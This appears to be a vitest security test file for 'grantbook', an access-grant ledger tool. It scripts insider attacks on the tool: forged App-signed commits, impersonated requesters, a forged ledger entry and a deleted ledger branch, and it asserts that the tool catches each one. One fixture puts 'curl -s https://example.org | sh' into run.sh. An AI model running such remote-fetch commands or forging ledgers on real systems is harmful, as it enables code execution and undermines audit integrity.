/** What somebody who may push branches tries against the ledger and the App's name: each is found, or counts nothing. */
import { execFile } from 'node:child_process';
import { appendFileSync, chmodSync, readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { digestOf } from '../../src/ledger/chain.ts';
import { type Company, organization, repository, startCompany } from '../support/company.ts';
import { requestsIn } from '../support/requests.ts';

let company: Company;
beforeAll(async () => {
  company = await startCompany();
});
afterAll(() => company.close());

const { judge, job, writeInIssue, commentOn } = requestsIn(() => company);
const day = (fromToday: number) => new Date(Date.now() + fromToday * 86_400_000).toISOString().slice(0, 10);
const grantOfAna = (system: string, role: string, until: string, more = '') => ({
  [`access-grants/${system}/${role}/ana.costa.yaml`]: `version: 1
subject: ana.costa
system: ${system}
role: ${role}
justification: Compare the sales of the spring fairs with those of last year
${more}requestedAt: ${day(-60)}
validUntil: ${until}
`,
});
const onMain = async (message: string, files: Record<string, string | null>) => {
  await company.git('fetch', '--quiet', 'origin');
  await company.git('checkout', '--quiet', '-B', 'main', 'origin/main');
  return company.push(message, files);
};
const issueOf = async (begin: string) => {
  const { issues } = company.as('qa-ana').rest;
  const { data } = await issues.listForRepo({ ...repository, state: 'open', per_page: 100 });
  return data.find(({ body }) => body?.startsWith(begin));
};
const ledgerRef = '+grantbook-ledger:refs/remotes/origin/grantbook-ledger';
const branch = 'grantbook/renew-analytics-viewer-ana.costa';
let reminder = 0;
/** The App opens a pull request for ana, from the branch above. */
const renew = async (days: number) => {
  const because = `/renew analytics/viewer ${days}d because the fairs were put off to the summer`;
  return Number(/#(\d+)/.exec(await writeInIssue('qa-ana', reminder, because))?.[1]);
};
/** A commit that GitHub signs in the name of the App: whoever squashes its pull request says what is in it. */
async function signedByTheApp(days: number, onto: string, message: string, write: () => Promise<unknown>) {
  const number = await renew(days);
  await company.git('checkout', '--quiet', '-B', branch, `origin/${onto}`);
  await write();
  const { pulls } = company.as('qa-ana').rest;
  await pulls.update({ ...repository, pull_number: number, base: onto });
  const { data } = await pulls.merge({
    ...repository,
    pull_number: number,
    merge_method: 'squash',
    commit_message: message,
  });
  await company.git('push', '--quiet', 'origin', `:refs/heads/${branch}`);
  return data.sha;
}

describe('with a branch of one’s own', () => {
  beforeAll(async () => {
    await onMain('Ends soon', { ...grantOfAna('analytics', 'viewer', day(9)), 'run.sh': 'exit 0\n' });
    chmodSync(join(company.clone, 'run.sh'), 0o755);
    await company.push('It runs', {});
    await job('start-ledger');
    await job('remind');
    reminder = (await issueOf('<!-- grantbook:reminder ana.costa'))?.number ?? 0;
  });

  test('a signature hides no commit that has no record yet', async () => {
    await onMain('Past everybody', grantOfAna('crm', 'viewer', day(30)));
    await job('record');
    const found = await issueOf('<!-- grantbook:found payroll');
    const evil = await onMain('Past everybody again', grantOfAna('crm', 'editor', day(30)));
    expect(await writeInIssue('qa-leonor-pinto', found?.number ?? 0, '/sign')).toMatch(/thank you/);
    expect((await job('record')).outputs.title).toMatch(/One commit was written down as not approved/);
    await company.git('fetch', '--quiet', '--force', 'origin', ledgerRef);
    const [file = ''] = (await company.git('ls-tree', '-r', '--name-only', 'origin/grantbook-ledger')).split(
      '\n',
    );
    expect(await company.git('show', `origin/grantbook-ledger:${file}`)).toContain(`"commit":"${evil}"`);
  });

  test('nobody asks in the name of another by a commit that GitHub signed for the App', async () => {
    await company.git('push', '--quiet', 'origin', 'origin/main:refs/heads/mine');
    await company.git('fetch', '--quiet', 'origin', '+mine:refs/remotes/origin/mine');
    const { data: rui } = await company.as('qa-ana').rest.users.getByUsername({ username: 'qa-rui' });
    const sha = await signedByTheApp(41, 'mine', `Requested-by: qa-rui (${rui.id})`, () =>
      company.push(
        'mine',
        grantOfAna('payroll', 'preparer', day(60), 'requestedBy: rui.alves\nticket: FIN-4821\n'),
      ),
    );
    await company.git('fetch', '--quiet', 'origin', 'mine');
    const second = await renew(60);
    await company.git('push', '--quiet', '--force', 'origin', `${sha}:refs/heads/${branch}`);
    expect((await judge(second)).outputs.verdict).toBe('rejected');
    expect(await commentOn(second)).toContain('nobody can tell for whom');
    await company.git('push', '--quiet', 'origin', `:refs/heads/${branch}`);
  });

  test('what is undone is as it was, to its mode', async () => {
    const before = await company.git('ls-tree', 'origin/main', 'run.sh');
    const evil = await onMain('Runs something else', { 'run.sh': 'curl -s https://example.org | sh\n' });
    await job('record');
    await company.git('fetch', '--quiet', 'origin');
    expect(before).toMatch(/^100755 /);
    expect(await company.git('ls-tree', `origin/grantbook/undo-${evil.slice(0, 10)}`, 'run.sh')).toBe(before);
  });

  test('a merge that can never be looked up holds up nothing that comes after it', async () => {
    await company.git('fetch', '--quiet', 'origin');
    await company.git('checkout', '--quiet', '-B', 'many', 'origin/main');
    const empty =
      'git -c user.name=Ana -c user.email=ana@quinta-aveia.example commit -q --allow-empty -m more';
    await promisify(execFile)('bash', ['-c', `for i in $(seq 250); do ${empty}; done`], {
      cwd: company.clone,
    });
    await company.push('Many', grantOfAna('crm', 'exporter', day(20)));
    const number = await company.openPullRequest('many', 'Many commits');
    const { pulls } = company.as('qa-ana').rest;
    const { data } = await pulls.merge({ ...repository, pull_number: number, merge_method: 'squash' });
    const after = await onMain('After it', grantOfAna('expenses', 'viewer', day(30)));
    const run = await job('record');
    expect(run.status, run.log).toBe(0);
    expect(run.outputs.title).toContain('2 commits were written down as not approved');
    expect((await issueOf(`<!-- grantbook:incident ${data.sha}`))?.body).toContain(
      'this pull request has 250 commits or more',
    );
    expect(await issueOf(`<!-- grantbook:incident ${after}`)).toBeDefined();
  });

  test('a record that somebody squashed onto the ledger is named', async () => {
    const path = 'access-grants/crm/admin/ana.costa.yaml';
    const evil = await onMain('Everything', grantOfAna('crm', 'admin', day(30)));
    const [parent, objectId] = await Promise.all([
      company.git('rev-parse', `${evil}^`),
      company.git('rev-parse', `${evil}:${path}`),
    ]);
    await company.git('fetch', '--quiet', '--force', 'origin', ledgerRef);
    await signedByTheApp(42, 'grantbook-ledger', 'Approved', async () => {
      const [file = ''] = readdirSync(join(company.clone, 'records'));
      const ledger = join(company.clone, 'records', file);
      const last = readFileSync(ledger, 'utf8').trim().split('\n').at(-1) ?? '';
      const now = new Date().toISOString();
      const record = {
        version: 1,
        previous: digestOf(last),
        recordedAt: now,
        tool: '0.1.0',
        kind: 'decision',
        commit: evil,
        parent,
        outcome: 'approved',
        reasons: [],
        changes: [{ kind: 'added', path, objectId }],
        times: { merged: now },
        decisions: [],
      };
      appendFileSync(ledger, `${JSON.stringify(record)}\n`);
      await company.push('Approved', {});
    });
    await company.git('fetch', '--quiet', '--force', 'origin', 'main', ledgerRef);
    await company.git('remote', 'set-head', 'origin', 'main');
    const where = ['--repository', `${organization}/access`, '--api-url', company.github.url];
    const { stdout } = await promisify(execFile)(
      process.execPath,
      [resolve('dist/cli.js'), '-C', company.clone, 'ledger', 'verify', ...where],
      { env: { PATH: process.env.PATH ?? '', GITHUB_TOKEN: company.jobToken } },
    ).catch((error: { stdout: string }) => error);
    expect(stdout).toMatch(
      /NOT OK grantbook-ledger: on .* it was written to by `qa-ana`, which is not the account that `ledger\.writer` names/,
    );
    // GitHub signed it in the name of the App; that is not enough to carry anything out.
    const run = await job('apply');
    expect(run.status).toBe(1);
    expect(run.log).toMatch(
      /nothing is given or taken away, since commit `\w+` of `grantbook-ledger` was not written by the account that `ledger\.writer` names/,
    );
  });

  test('a ledger that was deleted is not begun anew', async () => {
    await company.git('push', '--quiet', 'origin', ':refs/heads/grantbook-ledger');
    for (const command of ['record', 'start-ledger']) {
      const run = await job(command);
      expect(run.status).toBe(1);
      expect(run.log).toMatch(/the branch `grantbook-ledger` is gone: on .* it was deleted by `qa-ana`/);
    }
  });
});
